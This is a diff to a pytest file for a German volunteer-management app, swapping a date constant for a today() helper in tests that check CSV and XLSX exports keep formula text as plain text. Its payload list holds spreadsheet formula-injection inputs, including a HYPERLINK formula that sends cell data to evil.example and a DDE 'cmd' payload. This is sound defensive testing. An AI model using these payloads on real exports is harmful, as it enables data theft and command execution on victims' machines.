@@ -7,7 +7,6 @@ import csv
 import io
 import re
 import zipfile
-from datetime import date
 from pathlib import Path
 
 import pytest
@@ -21,10 +20,14 @@ from app.network.models import PARTNER_TYPES
 from app.statistics import export
 from app.statistics.tables import Table
 from app.volunteers.models import ExpenseEntry
+from tests.factories import today
 from tests.volunteers.helpers import running_case, user_id
 
-TODAY = date.today()
-MONTH = TODAY.strftime("%Y-%m")
+
+def month() -> str:
+    return today().strftime("%Y-%m")
+
+
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Beleg")'
 NOTES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1dA1", "  =1+1"]
 
@@ -46,7 +49,7 @@ def test_expense_note_in_the_monthly_statement_stays_text(app, login_as):
     mira, k201 = login_as("ehrenamt1"), login_as("k201")
     for note in NOTES:
         # Equal entries apart from the note: the volunteer confirms past the duplicate warning.
-        form = {"datum": TODAY.isoformat(), "stunden": "2", "kilometer": "", "auslagen": "", "notiz": note,
+        form = {"datum": today().isoformat(), "stunden": "2", "kilometer": "", "auslagen": "", "notiz": note,
                 "trotzdem": "1"}
         assert mira.post(f"/ehrenamt/einsaetze/{case_id}/aufwand", data=form).status_code == 302
     with app.app_context():
@@ -54,7 +57,7 @@ def test_expense_note_in_the_monthly_statement_stays_text(app, login_as):
     for entry_id in ids:
         assert k201.post(f"/aufwand/{entry_id}/genehmigen").status_code == 302
 
-    response = k201.get(f"/aufwand/abrechnung?ehrenamtliche={user_id(app, 'ehrenamt1')}&monat={MONTH}&format=csv")
+    response = k201.get(f"/aufwand/abrechnung?ehrenamtliche={user_id(app, 'ehrenamt1')}&monat={month()}&format=csv")
     rows = _csv(response)[1:-1]
     assert len(rows) == len(NOTES)
     stored = {note.strip() for note in NOTES}  # the form strips surrounding whitespace
@@ -72,10 +75,10 @@ def test_partner_name_in_the_network_map_csv_stays_text(app, login_as):
         org = db.session.scalar(select(User.organisation_id).where(User.username == "k201"))
         network.save_partner(None, org, name=name, typ=PARTNER_TYPES[0], intensitaet=2, wichtigkeit=3)
         db.session.commit()
-    rows = _csv(login_as("k201").get(f"/netzwerk/karte/{TODAY.year}.csv"))
+    rows = _csv(login_as("k201").get(f"/netzwerk/karte/{today().year}.csv"))
     [row] = [r for r in rows[1:] if name in r[1]]
     assert row[1] == "'" + name
-    assert row[0] == str(TODAY.year) and row[3] == "2"
+    assert row[0] == str(today().year) and row[3] == "2"
 
 
 def test_statistics_csv_and_xlsx_keep_formula_text_as_text(app):
